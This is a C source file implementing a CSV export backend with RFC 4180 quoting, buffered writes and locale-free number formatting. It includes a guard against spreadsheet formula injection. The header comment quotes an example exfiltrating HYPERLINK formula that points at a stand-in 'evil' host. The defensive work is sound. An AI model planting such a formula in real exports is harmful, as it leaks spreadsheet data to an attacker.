/* The CSV backend of the table writer: UTF-8 with a BOM, CRLF, RFC 4180
 * quoting, through a 64 KiB buffer with every write(2) checked.
 *
 * Formula injection: Excel (and LibreOffice) treat a cell that starts with
 * = + - @ as a formula, also in a CSV file, so a resident who names herself
 * =HYPERLINK("http://evil/?"&A1,"点这里") would put a live formula in the
 * export an operator opens. A text cell starting with one of those, a tab or
 * a CR gets a leading ' (OWASP's advice), which Excel shows as text. Text that
 * is a plain number such as "-1" (a basement floor) cannot be a formula and is
 * left alone. Numbers from number columns are never text cells.
 *
 * Numbers are formatted here digit by digit (no printf %f, no locale). */
#include "core/err.h"
#include "core/mem.h"
#include "report/table_out_int.h"

#include <errno.h>
#include <fcntl.h>
#include <float.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define BUF_SIZE (64 * 1024)

typedef struct {
    int fd;
    int own_fd; /* opened here (closed at finish), else the front's temporary file */
    int sheets; /* sheets started */
    size_t len;
    char buf[BUF_SIZE];
} csv_state;

static int flush(csv_state *c)
{
    size_t off = 0;
    while (off < c->len) {
        ssize_t n = write(c->fd, c->buf + off, c->len - off);
        if (n < 0 && errno == EINTR) continue;
        if (n <= 0) return KF_EIO; /* ENOSPC, EIO, …: the file would be short */
        off += (size_t)n;
    }
    c->len = 0;
    return KF_OK;
}

static int put(csv_state *c, const char *s, size_t n)
{
    while (n) {
        if (c->len == BUF_SIZE && flush(c) != KF_OK) return KF_EIO;
        size_t k = BUF_SIZE - c->len < n ? BUF_SIZE - c->len : n;
        memcpy(c->buf + c->len, s, k);
        c->len += k;
        s += k;
        n -= k;
    }
    return KF_OK;
}

static int sep(kf_table_out *o)
{
    return o->col ? put(o->be, ",", 1) : KF_OK;
}

/* is_plain_number: [+-]digits[.digits], which no spreadsheet reads as a formula. */
static int is_plain_number(const char *s, size_t len)
{
    size_t i = 1, digits = 0;
    while (i < len && s[i] >= '0' && s[i] <= '9')
        i++, digits++;
    if (i < len && s[i] == '.' && digits) {
        i++;
        size_t frac = 0;
        while (i < len && s[i] >= '0' && s[i] <= '9')
            i++, frac++;
        if (!frac) return 0;
    }
    return digits && i == len;
}

/* field: S as one CSV field, guarded and quoted as needed. */
static int field(csv_state *c, const char *s, size_t len)
{
    int guard = len && strchr("=+-@\t\r", s[0]) &&
                !((s[0] == '+' || s[0] == '-') && is_plain_number(s, len));
    int quote = 0;
    for (size_t i = 0; i < len && !quote; i++)
        quote = s[i] == ',' || s[i] == '"' || s[i] == '\r' || s[i] == '\n';
    int rc = KF_OK;
    if (quote) rc = put(c, "\"", 1);
    if (rc == KF_OK && guard) rc = put(c, "'", 1);
    if (rc == KF_OK && !quote) return put(c, s, len);
    size_t from = 0;
    for (size_t i = 0; rc == KF_OK && i < len; i++)
        if (s[i] == '"') { /* the quote goes out twice */
            rc = put(c, s + from, i + 1 - from);
            from = i;
        }
    if (rc == KF_OK) rc = put(c, s + from, len - from);
    return rc == KF_OK ? put(c, "\"", 1) : rc;
}

/* digits: V in decimal, written backwards so it ends just before END; returns
 * where it starts (at most 20 bytes before END). */
static char *digits(uint64_t v, char *end)
{
    char *p = end;
    do {
        *--p = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    return p;
}

/* scaled: V × 10^SCALE rounded to an integer the way Excel shows it (halves
 * away from zero; a value a few ulps below a half, like 1.15 × 10, counts as
 * the half it was meant to be). 0, or -1 when it does not fit. */
static int scaled(double v, double scale, int64_t *out)
{
    double x = v * scale;
    x += copysign(fabs(x) * 4 * DBL_EPSILON, x);
    if (!(fabs(x) < 9e15)) return -1;
    *out = (int64_t)llround(x);
    return 0;
}

/* fixed1: TENTHS as "[-]n.d" followed by SUFFIX. */
static int fixed1(csv_state *c, int64_t tenths, const char *suffix)
{
    char b[32], *const stop = b + sizeof(b), *p = stop;
    uint64_t u = tenths < 0 ? (uint64_t)0 - (uint64_t)tenths : (uint64_t)tenths;
    *--p = (char)('0' + u % 10);
    *--p = '.';
    p = digits(u / 10, p);
    if (tenths < 0) *--p = '-';
    int rc = put(c, p, (size_t)(stop - p));
    return rc == KF_OK ? put(c, suffix, strlen(suffix)) : rc;
}

static int csv_open(kf_table_out *o, const char *path, int fd)
{
    csv_state *c = kf_calloc(1, sizeof(*c));
    c->fd = fd;
    if (fd < 0) {
        c->fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
        if (c->fd < 0) {
            free(c);
            return KF_EIO;
        }
        c->own_fd = 1;
    }
    o->be = c;
    return put(c, "\xEF\xBB\xBF", 3); /* the BOM: Excel reads the file as UTF-8 */
}

static int csv_sheet(kf_table_out *o)
{
    csv_state *c = o->be;
    int rc = c->sheets++ ? put(c, "\r\n", 2) : KF_OK;
    const char *first = o->title_line ? o->title_line : o->sheet_name;
    if (rc == KF_OK) rc = field(c, first, strlen(first));
    if (rc == KF_OK) rc = put(c, "\r\n", 2);
    for (size_t i = 0; rc == KF_OK && i < o->ncols; i++) {
        if (i) rc = put(c, ",", 1);
        if (rc == KF_OK) rc = field(c, o->cols[i].title, strlen(o->cols[i].title));
    }
    return rc == KF_OK ? put(c, "\r\n", 2) : rc;
}

static int csv_text(kf_table_out *o, const char *s, size_t len)
{
    int rc = sep(o);
    return rc == KF_OK ? field(o->be, s, len) : rc;
}

static int csv_integer(kf_table_out *o, int64_t v)
{
    csv_state *c = o->be;
    int rc = sep(o);
    if (rc != KF_OK) return rc;
    char b[32], *const end = b + sizeof(b), *p = end;
    uint64_t u = v < 0 ? (uint64_t)0 - (uint64_t)v : (uint64_t)v;
    switch (o->cols[o->col].kind) {
    case KF_COL_FEN: /* yuan with exactly two decimals: -1234 → -12.34 */
        *--p = (char)('0' + u % 10);
        *--p = (char)('0' + u / 10 % 10);
        *--p = '.';
        p = digits(u / 100, p);
        if (v < 0) *--p = '-';
        return put(c, p, (size_t)(end - p));
    case KF_COL_TIME: {
        int64_t days;
        int32_t secs;
        int y, m, d;
        kf_table_local_time(o->tz, v, &days, &secs);
        kf_civil_from_days(days, &y, &m, &d);
        char t[17];
        int vals[5] = {y, m, d, secs / 3600, secs / 60 % 60};
        static const int width[5] = {4, 2, 2, 2, 2};
        static const char after[5] = {'-', '-', ' ', ':', '\0'};
        char *q = t;
        for (int i = 0; i < 5; i++) {
            for (int k = width[i] - 1, x = vals[i]; k >= 0; k--, x /= 10)
                q[k] = (char)('0' + x % 10);
            q += width[i];
            if (after[i]) *q++ = after[i];
        }
        return put(c, t, 16);
    }
    default: /* KF_COL_INT */
        p = digits(u, end);
        if (v < 0) *--p = '-';
        return put(c, p, (size_t)(end - p));
    }
}

static int csv_real(kf_table_out *o, double v)
{
    csv_state *c = o->be;
    int rc = sep(o);
    if (rc != KF_OK) return rc;
    int ratio = o->cols[o->col].kind == KF_COL_RATIO;
    int64_t tenths;
    if (scaled(v, ratio ? 1000.0 : 10.0, &tenths) == 0)
        return fixed1(c, tenths, ratio ? "%" : ""); /* 0 (also -0.01) is "0.0", never "-0.0" */
    /* beyond 9e15 a double has no fraction left: %.0f prints digits only,
     * whatever the locale */
    double x = ratio ? v * 100 : v;
    if (!isfinite(x)) return KF_OK; /* an empty cell */
    char b[400];
    int n = snprintf(b, sizeof(b), "%.0f.0%s", x, ratio ? "%" : "");
    return put(c, b, (size_t)n);
}

static int csv_empty(kf_table_out *o)
{
    return sep(o);
}

static int csv_row_end(kf_table_out *o)
{
    return put(o->be, "\r\n", 2);
}

static int csv_finish(kf_table_out *o, int err)
{
    csv_state *c = o->be;
    if (!c) return KF_OK;
    int rc = err == KF_OK ? flush(c) : KF_OK;
    /* close can report a write the disk refused late (NFS, quotas) */
    if (c->own_fd && close(c->fd) != 0 && rc == KF_OK) rc = KF_EIO;
    free(c);
    return rc;
}

const kf_table_backend kf_table_csv_backend = {
    .open = csv_open,
    .sheet = csv_sheet,
    .text = csv_text,
    .integer = csv_integer,
    .real = csv_real,
    .empty = csv_empty,
    .row_end = csv_row_end,
    .finish = csv_finish,
};
